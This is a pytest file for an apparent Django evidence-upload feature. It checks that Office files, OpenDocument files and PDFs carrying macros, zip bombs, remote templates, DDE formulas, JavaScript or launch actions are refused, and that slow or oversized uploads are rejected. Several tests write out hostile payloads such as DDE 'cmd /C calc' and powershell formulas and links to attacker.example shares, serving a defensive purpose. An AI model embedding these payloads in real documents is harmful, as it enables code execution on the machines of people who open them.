"""Issue 11, "Uploads": active content in Office files and PDFs, packages inside packages, the cost of a hostile
file, oversized and stalled request bodies, and a missing virus scanner in production. Every file is made here
(tests/evidence_samples.py), as an attacker would make it."""

import io
import os
import socket
import struct
import threading
import time
import zipfile

import magic
import pytest
from django.core import checks
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.handlers.wsgi import LimitedStream
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import reverse

from evidence import middleware, packages, pdfs, scanner, uploads
from evidence.models import Evidence
from tests import evidence_samples as samples


def _refused(name, data, code):
    with pytest.raises(uploads.UploadRefused) as refusal:
        uploads.check_upload(samples.upload(name, data))
    message = " ".join(refusal.value.messages)
    assert refusal.value.code == code, message
    assert f"“{name}”" in message
    return message


def _accepted(name, data):
    return uploads.check_upload(samples.upload(name, data))


def _sheet_formula(formula):
    return f'<row r="1"><c r="A1"><f>{formula}</f></c></row>'


# --- packages inside packages --------------------------------------------------------------------------------


def test_a_docx_embedding_a_macro_enabled_workbook_is_refused_naming_the_embedded_part():
    data = samples.docx_embedding("Microsoft_Excel_Macro-Enabled_Worksheet.xlsm", samples.xlsm())
    message = _refused("procedure.docx", data, "macro")
    assert "macros" in message
    assert "“word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm”" in message


def test_a_docx_embedding_an_ordinary_workbook_is_accepted():
    _accepted("procedure.docx", samples.docx_embedding("Microsoft_Excel_Worksheet.xlsx", samples.xlsx()))


def test_every_check_applies_inside_an_embedded_package():
    """A remote template two levels down is found as if it were the file itself."""
    data = samples.nested_docx(2, innermost=samples.docx_with_remote_template())
    message = _refused("procedure.docx", data, "external_link")
    assert "template" in message
    assert message.count("word/embeddings/Microsoft_Word_Document.docx") == 2


def test_packages_nested_beyond_the_depth_limit_are_refused(settings):
    settings.EVIDENCE_MAX_NESTING_DEPTH = 3
    _accepted("procedure.docx", samples.nested_docx(3))
    message = _refused("procedure.docx", samples.nested_docx(4), "nested_too_deep")
    assert "more than 3 deep" in message


def test_no_package_may_be_embedded_when_the_depth_limit_is_nought(settings):
    settings.EVIDENCE_MAX_NESTING_DEPTH = 0
    _refused("procedure.docx", samples.nested_docx(1), "nested_too_deep")


def test_a_plain_zip_inside_a_workbook_is_refused_as_an_archive():
    data = samples.xlsx([("xl/embeddings/data.zip", samples.plain_zip())])
    message = _refused("audit.xlsx", data, "embedded_archive")
    assert "archive" in message and "“xl/embeddings/data.zip”" in message


def test_a_workbook_holding_a_zip_of_100_mb_of_zeros_is_refused():
    bomb = samples.zip_of_zeros(100)
    assert len(bomb) < 1024 * 1024
    _refused("audit.xlsx", samples.xlsx([("xl/embeddings/oleObject1.xlsx", bomb)]), "embedded_archive")


def test_a_zip_bomb_inside_an_embedded_package_is_refused():
    inner = samples.zip_bomb_docx(inflated_mb=120)
    _refused("procedure.docx", samples.docx_embedding("Microsoft_Word_Document.docx", inner), "zip_bomb")


def test_an_old_style_office_object_anywhere_in_a_package_is_refused():
    """An OLE compound file (a .doc, a packaged program) hidden under a picture's name."""
    data = samples.docx([("word/media/image1.png", samples.VBA_PROJECT)])
    message = _refused("procedure.docx", data, "embedded_object")
    assert "old-style" in message


def test_parts_of_embedded_packages_count_towards_the_member_limit(settings):
    settings.EVIDENCE_MAX_ARCHIVE_MEMBERS = 50
    inner = samples.docx_with_many_members(25)  # 28 parts
    outer = samples.docx([(f"word/media/part{i}.xml", "<x/>") for i in range(20)]
                         + [("word/embeddings/Microsoft_Word_Document.docx", inner)])  # 24 parts
    _accepted("procedure.docx", inner)
    message = _refused("procedure.docx", outer, "too_many_members")
    assert "52 parts, counting the documents inside it" in message


def test_parts_of_embedded_packages_count_towards_the_unpacked_limit(settings):
    settings.EVIDENCE_MAX_UNPACKED_MB = 1
    inner = samples.docx([("word/media/image2.png", os.urandom(600 * 1024))])  # random: it hardly compresses
    _accepted("procedure.docx", inner)
    outer = samples.docx_embedding("Microsoft_Word_Document.docx", inner)  # itself 0.6 MB, and 0.6 MB inside
    message = _refused("procedure.docx", outer, "zip_bomb")
    assert "counting the documents inside it" in message


def test_an_opendocument_sub_document_is_checked_too():
    data = samples.odt_with(extra_members=[("Object 1/content.xml", samples.odf_content("<table:dde-link/>"))])
    _refused("supervision.odt", data, "dde")


def test_macros_in_an_opendocument_sub_document_are_refused():
    data = samples.odt_with(extra_members=[("Object 1/Basic/Standard/Module1.xml", "<script:module/>")])
    _refused("supervision.odt", data, "macro")


# --- links out of the file and DDE --------------------------------------------------------------------------


def test_a_docx_with_a_remote_attached_template_is_refused():
    message = _refused("procedure.docx", samples.docx_with_remote_template(), "external_link")
    assert "template" in message


def test_a_workbook_linked_to_a_workbook_on_a_network_share_is_refused():
    message = _refused("audit.xlsx", samples.xlsx_with_external_workbook(), "external_link")
    assert "another workbook" in message


def test_an_external_relationship_to_a_unc_path_is_refused_wherever_it_is():
    rels = samples.relationships(("oleObject", r"\\attacker.example\share\chart.xlsx", True))
    _refused("audit.xlsx", samples.xlsx([("xl/worksheets/_rels/sheet1.xml.rels", rels)]), "external_link")


def test_an_external_relationship_written_in_utf16_is_still_found():
    rels = samples.relationships(("attachedTemplate", "http://attacker.example/t.dotm", True))
    rels = rels.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    _refused("procedure.docx", samples.docx([("word/_rels/settings.xml.rels", rels)]), "external_link")


def test_an_escaped_target_mode_is_still_found():
    rels = samples.relationships(("attachedTemplate", "http://attacker.example/t.dotm", True))
    rels = rels.replace('TargetMode="External"', 'TargetMode="&#69;xternal"')
    _refused("procedure.docx", samples.docx([("word/_rels/settings.xml.rels", rels)]), "external_link")


def test_a_hyperlink_to_a_web_page_is_accepted():
    _accepted("procedure.docx", samples.docx_with_hyperlink("https://www.gov.uk/government/publications/"))


def test_a_workbook_written_by_openpyxl_with_links_chart_picture_and_comments_is_accepted():
    """A real program's output: web and in-file hyperlinks (external relationships), a chart, a picture, a
    comment and a cell holding "|" and "!", a hidden sheet and row."""
    import openpyxl
    from openpyxl.chart import BarChart, Reference
    from openpyxl.comments import Comment
    from openpyxl.drawing.image import Image

    book = openpyxl.Workbook()
    sheet = book.active
    for row in range(1, 20):
        sheet.append([f"Agency {row}", row * 3, row * 5, f"=B{row}/C{row}"])
    sheet["F1"].hyperlink = "https://www.gov.uk/government/publications/working-together-to-safeguard-children--2"
    sheet["F2"].hyperlink = "#Sheet!A1"
    sheet["A1"].comment = Comment("Checked | see the minutes!", "Consultant")
    sheet["G1"] = "a|b!c"
    sheet.row_dimensions[3].hidden = True
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=10))
    sheet.add_chart(chart, "H2")
    sheet.add_image(Image(io.BytesIO(samples.png(40, 40))), "H20")
    book.create_sheet("Notes").sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    _accepted("audit.xlsx", buffer.getvalue())


def test_the_applications_own_export_can_be_uploaded_as_evidence(client, world):
    client.force_login(world.member)
    _accepted("actions.xlsx", client.get(reverse("dashboard:export_xlsx")).content)


def test_a_hyperlink_to_a_network_share_is_refused():
    _refused("procedure.docx", samples.docx_with_hyperlink(r"file:///\\attacker.example\share\a.docx"), "external_link")


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "cmd&#124;' /C calc'!A0",  # the "|" written as a character reference
        "SUM(1)+cmd|'/c powershell'!'A1'",
        "<![CDATA[cmd|' /C calc'!A0]]>",
    ],
)
def test_a_dde_formula_is_refused(formula):
    message = _refused("audit.xlsx", samples.xlsx(sheet_data=_sheet_formula(formula)), "dde")
    assert "DDE" in message


def test_an_ordinary_formula_with_a_bar_in_a_string_is_accepted():
    _accepted("audit.xlsx", samples.xlsx(sheet_data=_sheet_formula('CONCAT("a|b";"!")&amp;B1')))


def test_a_dde_link_element_is_refused():
    link = (
        '<ddeLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ddeService="cmd" '
        'ddeTopic="/c calc"/>'
    )
    _refused("audit.xlsx", samples.xlsx([("xl/links/link1.xml", link)]), "dde")


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(samples.docx_with_field(samples.DDE_FIELD), id="field"),
        pytest.param(samples.docx_with_field(samples.DDE_FIELD, split_at=2), id="split-over-runs"),
        pytest.param(samples.docx_with_field(" dde " + samples.DDE_FIELD[8:]), id="lower-case"),
        pytest.param(
            samples.docx(body=f'<w:p><w:fldSimple w:instr="{samples.DDE_FIELD.replace(chr(34), "&quot;")}"/></w:p>'),
            id="simple-field",
        ),
        pytest.param(
            samples.docx(
                body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
                '</w:r><w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            id="command-built-by-another-field",
        ),
    ],
)
def test_a_dde_field_in_word_is_refused(document):
    _refused("procedure.docx", document, "dde")


def test_ordinary_word_fields_are_accepted():
    _accepted("procedure.docx", samples.docx_with_field(" PAGE \\* MERGEFORMAT "))
    _accepted("procedure.docx", samples.docx_with_field(' IF 1 = 1 "yes" "no" ', split_at=4))


@pytest.mark.parametrize(
    "text",
    [
        pytest.param('<text:p><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></text:p>',
                     id="dde-source"),
        pytest.param('<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
                     'office:dde-application="cmd"/></text:dde-connection-decls>', id="dde-connection"),
        pytest.param('<table:table><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;'
                     '&quot;/c calc&quot;;&quot;A0&quot;)"/></table:table-row></table:table>', id="dde-formula"),
    ],
)
def test_dde_in_an_opendocument_file_is_refused(text):
    _refused("supervision.odt", samples.odt_with(text), "dde")


@pytest.mark.parametrize(
    "text",
    [
        '<text:section text:name="S"><text:section-source xlink:href="http://attacker.example/x.odt"/></text:section>',
        '<text:p><draw:frame><draw:image xlink:href="file:///\\\\attacker.example\\share\\logo.png"/>'
        "</draw:frame></text:p>",
        '<text:p><draw:frame><draw:image xlink:href="../../logo.png"/></draw:frame></text:p>',
    ],
)
def test_opendocument_content_linked_from_outside_is_refused(text):
    _refused("supervision.odt", samples.odt_with(text), "external_link")


def test_opendocument_web_links_and_pictures_inside_the_file_are_accepted():
    text = (
        '<text:p><text:a xlink:href="https://www.gov.uk/">Working Together</text:a>'
        '<draw:frame><draw:image xlink:href="Pictures/logo.png"/></draw:frame></text:p>'
    )
    _accepted("supervision.odt", samples.odt_with(text))


def test_what_active_content_needs_is_found_across_the_chunks_a_part_is_read_in():
    """The bytes are searched a chunk at a time; a name split between two chunks is still seen."""
    element = "<table:dde-link/>"
    content = samples.odf_content("<text:p></text:p>" + element)
    padding = packages.CHUNK - 2 - content.index("dde-link")  # "dd" ends one chunk, "e-link" starts the next
    content = samples.odf_content(f"<text:p>{'x' * padding}</text:p>" + element)
    assert content.index("dde-") == packages.CHUNK - 2 and content.count("dde") == 1
    data = samples.odt(extra_members=[("Object 1/content.xml", content)])
    _refused("supervision.odt", data, "dde")


def test_an_opendocument_event_bound_to_a_macro_is_refused():
    text = (
        '<text:p><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></text:p>'
    )
    _refused("supervision.odt", samples.odt_with(text), "macro")


def test_a_part_with_a_document_type_declaration_is_refused():
    """No Office part has a DTD; one could define entities that expand without end (“billion laughs”)."""
    document = samples.DOCUMENT_XML.replace(
        "\n<w:document", '\n<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">]>\n<w:document'
    )
    _refused("procedure.docx", samples.docx([("word/glossary/document.xml", document)]), "malformed")


def test_excel_4_macro_sheets_are_refused():
    _refused("audit.xlsx", samples.xlsx([("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")]), "macro")


# --- PDFs ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "code", "words"),
    [
        (samples.pdf_with_open_action_javascript, "javascript",
         "contains JavaScript, which can run when it is opened. Print it to a new PDF without scripts"),
        (samples.pdf_with_javascript_in_an_object_stream, "javascript", "JavaScript"),
        (samples.pdf_with_launch_action, "launch", "starts a program"),
        (samples.pdf_with_attachment, "attachment", "files attached"),
        (samples.pdf_with_rich_media, "rich_media", "embedded media"),
        (samples.pdf_with_xfa_form, "xfa", "XFA"),
    ],
    ids=["open-action-javascript", "escaped-in-object-stream", "launch", "attachment", "rich-media", "xfa"],
)
def test_a_pdf_with_active_content_is_refused(build, code, words):
    assert words in _refused("report.pdf", build(), code)


def test_the_escaped_javascript_is_only_in_a_compressed_object_stream():
    """So the refusal above cannot come from the raw bytes."""
    data = samples.pdf_with_javascript_in_an_object_stream()
    assert b"JavaScript" not in data and b"J#61vaScript" not in data


def test_a_pdf_with_a_web_link_is_accepted():
    _accepted("report.pdf", samples.pdf_with_web_link())


def test_a_pdf_that_cannot_be_parsed_is_refused():
    message = _refused("report.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R", "malformed")
    assert "cannot be read as a PDF" in message


def test_a_password_protected_pdf_is_refused():
    _refused("report.pdf", samples.pdf_encrypted(), "encrypted")


def test_a_pdf_with_more_objects_than_allowed_is_refused(monkeypatch):
    monkeypatch.setattr(pdfs, "MAX_OBJECTS", 2)
    _refused("report.pdf", samples.pdf(), "too_complex")


# --- the cost of a hostile file -----------------------------------------------------------------------------


def test_the_member_count_is_refused_before_zipfile_lists_the_members(settings, monkeypatch):
    settings.EVIDENCE_MAX_ARCHIVE_MEMBERS = 50
    data = samples.docx_with_many_members(60)

    def no_zipfile(*args, **kwargs):
        raise AssertionError("zipfile.ZipFile was constructed for a file over the member limit")

    monkeypatch.setattr(zipfile, "ZipFile", no_zipfile)
    assert "63 parts" in _refused("procedure.docx", data, "too_many_members")


def test_a_zip_whose_end_record_understates_its_members_is_refused_before_they_are_listed(settings, monkeypatch):
    """zipfile reads as many entries as the directory's size allows, whatever the end record says."""
    settings.EVIDENCE_MAX_ARCHIVE_MEMBERS = 50
    data = bytearray(samples.docx_with_many_members(60))
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 3, 3)
    monkeypatch.setattr(zipfile, "ZipFile", None)
    assert "does not match" in _refused("procedure.docx", bytes(data), "malformed")


def test_the_upload_is_opened_as_a_zip_only_once(monkeypatch):
    data = samples.xlsx_that_libmagic_calls_zip()
    # libmagic cannot tell what it is, so the package's declaration is read for its type too
    assert magic.from_buffer(data, mime=True) in {"application/zip", "application/octet-stream"}
    upload = samples.upload("audit.xlsx", data)
    opened = []
    real = zipfile.ZipFile

    def counting(*args, **kwargs):
        opened.append(args[0])
        return real(*args, **kwargs)

    monkeypatch.setattr(zipfile, "ZipFile", counting)
    uploads.check_upload(upload)
    assert len(opened) == 1


def test_parts_with_the_same_name_are_refused():
    data = samples._zip(
        [("[Content_Types].xml", samples._content_types([("/word/document.xml", samples.WORD_MAIN)])),
         ("_rels/.rels", samples._RELS.format(target="word/document.xml")),
         ("word/document.xml", samples.DOCUMENT_XML),
         ("Word/Document.xml", samples.DOCUMENT_XML.replace("Revised", "Other"))]
    )
    _refused("procedure.docx", data, "malformed")


# --- request bodies: 413 before reading, 408 when too slow ---------------------------------------------------


class _MustNotBeRead(io.RawIOBase):
    def read(self, *args):
        raise AssertionError("the request body was read")

    readline = readinto = read


def test_a_body_declared_over_the_limit_is_answered_413_without_being_read(client, settings):
    settings.EVIDENCE_MAX_UPLOAD_MB = 25
    response = client.generic(
        "POST", "/accounts/login/", CONTENT_LENGTH=str(1024**3), CONTENT_TYPE=MULTIPART_CONTENT,
        **{"wsgi.input": _MustNotBeRead()},
    )
    assert response.status_code == 413
    assert response["Content-Type"].startswith("text/plain")
    assert "251 MB" in response.content.decode()


def test_the_limit_is_a_whole_submission_of_files_at_the_size_limit(client, settings):
    settings.EVIDENCE_MAX_UPLOAD_MB = 2
    assert middleware.max_request_bytes() == (2 * 10 + 1) * 1024 * 1024
    response = client.generic("POST", "/accounts/login/", CONTENT_LENGTH=str(21 * 1024 * 1024 + 1),
                              **{"wsgi.input": _MustNotBeRead()})
    assert response.status_code == 413


def test_the_development_server_is_not_left_to_read_a_refused_body(client):
    """runserver reads what the application left of a body (its ServerHandler.close); after a 413 there is nothing."""
    server_stream = LimitedStream(_MustNotBeRead(), 1024**3)
    response = client.generic("POST", "/accounts/login/", CONTENT_LENGTH=str(1024**3),
                              **{"wsgi.input": server_stream})
    assert response.status_code == 413
    assert server_stream.read() == b""


class _SlowBody(io.RawIOBase):
    """A body that arrives a little at a time, each piece 10 (pretend) seconds after the last."""

    def __init__(self, data, clock, temp_dir):
        self.data, self.clock, self.temp_dir, self.saw_temporary_file = io.BytesIO(data), clock, temp_dir, False

    def read(self, size=-1):
        self.clock.now += 10
        self.saw_temporary_file |= bool(os.listdir(self.temp_dir))
        return self.data.read(min(size, 64 * 1024) if size and size > 0 else 64 * 1024)

    def readline(self, size=-1):
        return self.read(size)


class _Clock:
    now = 1000.0

    def monotonic(self):
        return self.now


def test_an_upload_too_slow_to_arrive_is_answered_408_and_its_temporary_file_removed(
    client, world, settings, tmp_path, monkeypatch
):
    settings.UPLOAD_TIMEOUT_SECONDS = 25
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000  # so that the file is spooled to a temporary file
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    clock = _Clock()
    monkeypatch.setattr(middleware, "time", clock)
    client.force_login(world.agency_user)
    body = encode_multipart(BOUNDARY, {
        "description": "Workshop attendance.", "represents_on": "2026-01-15",
        "files": SimpleUploadedFile("attendance.pdf", samples.pdf() + b"%" + b"x" * 400_000),
    })
    slow = _SlowBody(body, clock, tmp_path)
    response = client.generic(
        "POST", reverse("evidence:submit", args=[world.multi_action.pk]), CONTENT_LENGTH=str(len(body)),
        CONTENT_TYPE=MULTIPART_CONTENT, **{"wsgi.input": slow},
    )
    assert response.status_code == 408
    assert "25 seconds" in response.content.decode()
    assert slow.saw_temporary_file
    assert os.listdir(tmp_path) == []
    assert not Evidence.objects.exists()


def _post_over_a_socket(client, send):
    """POST to the sign-in page with the body read from a real connection, as gunicorn hands it over; ``send``
    writes the body into the other end. Returns the response and how long it took."""
    server_side, client_side = socket.socketpair()
    with server_side, client_side:
        server_side.settimeout(10)  # without a limit of its own, the test would fail by waiting for ever
        sender = threading.Thread(target=send, args=(client_side,), daemon=True)
        sender.start()
        started = time.monotonic()
        response = client.generic(
            "POST", "/accounts/login/", CONTENT_LENGTH="5000", CONTENT_TYPE=MULTIPART_CONTENT,
            **{"wsgi.input": server_side.makefile("rb"), "gunicorn.socket": server_side},
        )
        return response, time.monotonic() - started


def test_a_body_that_stops_arriving_is_answered_408_at_the_deadline(client, settings):
    settings.UPLOAD_TIMEOUT_SECONDS = 1

    def start_then_stall(connection):
        connection.sendall(b"--" + BOUNDARY.encode() + b"\r\n")

    response, took = _post_over_a_socket(client, start_then_stall)
    assert response.status_code == 408
    assert 1 <= took < 5


def test_a_body_that_trickles_in_is_answered_408_at_the_deadline(client, settings):
    """Each byte arrives in good time, so only a limit on the whole body ends it."""
    settings.UPLOAD_TIMEOUT_SECONDS = 1

    def trickle(connection):
        try:
            for _ in range(100):
                connection.sendall(b"x")
                time.sleep(0.05)
        except OSError:
            pass  # the server shut its side

    response, took = _post_over_a_socket(client, trickle)
    assert response.status_code == 408
    assert 1 <= took < 5


def test_an_upload_in_time_passes_through(client, world, settings):
    client.force_login(world.agency_user)
    response = client.post(
        reverse("evidence:submit", args=[world.multi_action.pk]),
        {"description": "Workshop attendance.", "represents_on": "2026-01-15",
         "files": [samples.upload("attendance.pdf", samples.pdf())]},
    )
    assert response.status_code == 302
    assert Evidence.objects.count() == 1


# --- no scanner in production -------------------------------------------------------------------------------


def _check_ids():
    return {message.id for message in checks.run_checks(include_deployment_checks=True)}


@pytest.fixture
def production(settings):
    settings.DEBUG = False
    settings.CLAMAV_SOCKET = ""
    settings.CLAMAV_HOST = ""
    settings.EVIDENCE_SCANNING = "auto"
    return settings


def test_check_deploy_warns_when_no_scanner_is_configured_in_production(production):
    assert "evidence.W001" in _check_ids()


def test_no_warning_when_the_operator_turned_scanning_off(production):
    production.EVIDENCE_SCANNING = "off"
    assert not {"evidence.W001", "evidence.E001"} & _check_ids()


def test_no_warning_when_clamav_is_configured(production):
    production.CLAMAV_SOCKET = "/var/run/clamav/clamd.ctl"
    assert not {"evidence.W001", "evidence.E001"} & _check_ids()


def test_no_warning_in_development(production):
    production.DEBUG = True
    assert "evidence.W001" not in _check_ids()


def test_scanning_required_without_clamav_is_an_error_even_without_deploy(production):
    production.EVIDENCE_SCANNING = "clamav"
    assert "evidence.E001" in {message.id for message in checks.run_checks()}
    production.CLAMAV_HOST = "clamav.internal"
    assert "evidence.E001" not in {message.id for message in checks.run_checks()}


def test_scanning_off_means_nothing_is_sent_to_clamav(settings):
    unused = socket.socket()
    unused.bind(("127.0.0.1", 0))
    port = unused.getsockname()[1]
    unused.close()  # nothing listens there: a scan would fail and refuse the file
    settings.CLAMAV_HOST, settings.CLAMAV_PORT = "127.0.0.1", port
    _refused("attendance.pdf", samples.pdf(), "scanner_unavailable")
    settings.EVIDENCE_SCANNING = "off"
    assert not scanner.is_configured()
    _accepted("attendance.pdf", samples.pdf())
